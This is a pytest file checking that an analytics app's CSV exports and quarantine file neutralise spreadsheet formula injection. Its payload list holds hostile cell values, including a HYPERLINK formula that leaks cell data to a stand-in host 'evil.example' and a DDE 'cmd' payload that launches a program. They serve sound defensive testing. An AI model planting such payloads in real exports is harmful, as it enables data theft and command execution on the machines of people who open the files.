"""Exports are safe to open: no cell of a CSV assetgraph writes runs as a spreadsheet formula.

The writers are the app's table download (``app.ui.csv_bytes``) and the quarantine file (raw
hostile input that analysts open in Excel); a scan of the source tree keeps any new writer
from slipping past :mod:`ingest.export_safety`. The ``neo4j-admin`` import files are the one
exception, by the stated decision of their module: they are the import tool's input, verbatim.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests_support import CASE, write_bundle

from graph.sqlite_store import SQLiteStore
from ingest.bundle import load_bundle
from ingest.export_safety import FORMULA_STARTS, safe_cell, safe_frame, safe_row

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "-£1,250.00", "+44 20 7946 0000"]


def _is_safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?[\d,]+(\.\d+)?", cell) is not None


@pytest.mark.parametrize("value, expected", [
    *((p, "'" + p) for p in PAYLOADS),
    ("-1250.50", "-1250.50"), ("-1,250.00", "-1,250.00"), ("+12", "+12"),  # plain numbers stay numbers
    (-1250.5, -1250.5), (-3, -3), (None, None), (True, True),
    ("Marcus VANCE", "Marcus VANCE"), (" =1+1", " =1+1"), ("", ""), ("a=b", "a=b"),
])
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@given(st.text())
def test_every_text_comes_out_safe_and_can_be_read_back(text: str) -> None:
    out = safe_cell(text)
    assert _is_safe(out)
    assert out == text or out == "'" + text


def test_a_table_download_quotes_formulas_and_keeps_negative_numbers_numeric() -> None:
    from app.ui import MARKING, csv_bytes

    df = pd.DataFrame({"name": PAYLOADS[:4], "amount": [-1250.5, -3.0, 12.0, None],
                       "count": [-1, 2, 3, 4], "=danger": ["a", "b", "c", "d"]})
    text = csv_bytes(df).decode("utf-8")
    marking, body = text.split("\n", 1)
    assert marking == MARKING
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["name", "amount", "count", "'=danger"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS[:4]]
    assert [r[1] for r in rows[1:]] == ["-1250.5", "-3.0", "12.0", ""]  # numbers, read by a spreadsheet as numbers
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3", "4"]
    assert df["name"].tolist() == PAYLOADS[:4]  # the shown table is not changed, only the export


def test_mixed_object_columns_keep_numbers_and_quote_text() -> None:
    out = safe_frame(pd.DataFrame({"v": [-5, "-5+1", 2.5, "=x"]}))
    assert out["v"].tolist() == [-5, "'-5+1", 2.5, "'=x"]
    assert safe_row(["=1", -1, "ok"]) == ["'=1", -1, "ok"]


def test_the_quarantine_file_holds_no_live_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example","open")'
    folder = write_bundle(tmp_path / "b", {
        "people.csv": [["id", "name", "dob"], ["P1", "Marcus VANCE", ""], ["P1", evil, ""],
                       ["-2+3", "x", "not a date"], ["@SUM(A1)", "y", "", "ragged"]],
        "transfers.csv": [["id", "date", "from_id", "to_id", "amount"], ["=1+1", "2020-01-01", "P1", evil, "10"]],
    }, {**CASE, "case_id": "-1+1 case"})
    with SQLiteStore(tmp_path / "db.sqlite") as store:
        report = load_bundle(store, folder, tmp_path / "q")
    assert (report.quarantined, report.fields_dropped) == (3, 1)  # "not a date" costs the field only
    with open(report.quarantine_file, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + 4 and all(_is_safe(cell) for row in rows for cell in row), rows
    assert {row[0] for row in rows[1:]} == {"'-1+1 case"}
    raw_at = rows[0].index("raw")
    raws = [json.loads(row[raw_at]) for row in rows[1:]]
    assert {"P1": evil} == {r["id"]: r["name"] for r in raws if r.get("name") == evil}  # the raw row is kept whole
    assert any(r.get("to_id") == evil for r in raws)


WRITERS = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|openpyxl\.Workbook\(|xlsxwriter")
# Every place that writes a CSV/XLSX people open, and the safe_* call it makes; and the one writer
# whose files are input for a machine (neo4j-admin import), where a quote would change the data
# imported, so cells stay verbatim by a decision its module states.
KNOWN_WRITERS = {"app/ui.py": "safe_frame(df).to_csv", "ingest/pipeline.py": "safe_row(",
                 "graph/neo4j_import.py": "cells are written verbatim"}


def test_every_csv_writer_goes_through_export_safety() -> None:
    found = {}
    for folder in ("app", "queries", "ingest", "graph"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if WRITERS.search(text) and path.name != "export_safety.py":  # its doctest shows a safe write
                found[str(path.relative_to(ROOT))] = text
    assert set(found) == set(KNOWN_WRITERS), "a new CSV/XLSX writer must make its cells safe (ingest/export_safety)"
    for name, call in KNOWN_WRITERS.items():
        assert call in found[name]
